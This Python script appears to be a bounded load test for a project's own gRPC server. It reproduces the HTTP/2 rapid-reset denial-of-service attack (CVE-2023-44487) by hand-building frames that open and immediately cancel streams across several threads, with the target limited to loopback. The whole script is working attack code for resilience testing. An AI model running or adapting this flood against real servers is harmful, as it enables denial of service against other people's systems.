#!/usr/bin/python3
"""Bounded HTTP/2 rapid-reset flood against a local ctxsel-server.

Each connection opens streams (HEADERS for ctxsel.v1.Ctxsel/Ping) and resets
each at once (RST_STREAM CANCEL), the CVE-2023-44487 pattern. Loopback only;
stops after --streams per connection or --seconds, whichever comes first.

  /usr/bin/python3 bench/flood/rapid_reset.py --port=7070 --connections=4 \
      --streams=200000 --seconds=10
"""
import argparse
import socket
import struct
import threading
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def literal(name, value):
    # HPACK literal header field without indexing, new name, no Huffman.
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEADERS = b"".join(literal(n, v) for n, v in [
    (":method", "POST"), (":scheme", "http"),
    (":path", "/ctxsel.v1.Ctxsel/Ping"), (":authority", "localhost"),
    ("content-type", "application/grpc"), ("te", "trailers")])
CANCEL = struct.pack(">I", 8)


def drain(sock, stop):
    sock.settimeout(0.2)
    while not stop.is_set():
        try:
            if not sock.recv(1 << 16):
                return
        except socket.timeout:
            continue
        except OSError:
            return


def flood(port, streams, deadline, sent, index):
    sock = socket.create_connection(("127.0.0.1", port))
    stop = threading.Event()
    reader = threading.Thread(target=drain, args=(sock, stop), daemon=True)
    reader.start()
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    stream = 1
    batch = []
    try:
        for _ in range(streams):
            batch.append(frame(1, 0x4, stream, HEADERS))
            batch.append(frame(3, 0, stream, CANCEL))
            stream += 2
            if len(batch) >= 200:
                sock.sendall(b"".join(batch))
                batch = []
                if time.monotonic() > deadline:
                    break
        if batch:
            sock.sendall(b"".join(batch))
    except OSError:
        pass  # the server closed the connection: that is an answer too
    sent[index] = (stream - 1) // 2
    stop.set()
    sock.close()


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--streams", type=int, default=100000)
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args()
    assert args.connections <= 64 and args.seconds <= 60
    deadline = time.monotonic() + args.seconds
    sent = [0] * args.connections
    threads = [threading.Thread(target=flood,
                                args=(args.port, args.streams, deadline, sent, i))
               for i in range(args.connections)]
    start = time.monotonic()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print("streams_reset=%d seconds=%.1f" % (sum(sent), time.monotonic() - start))


if __name__ == "__main__":
    main()
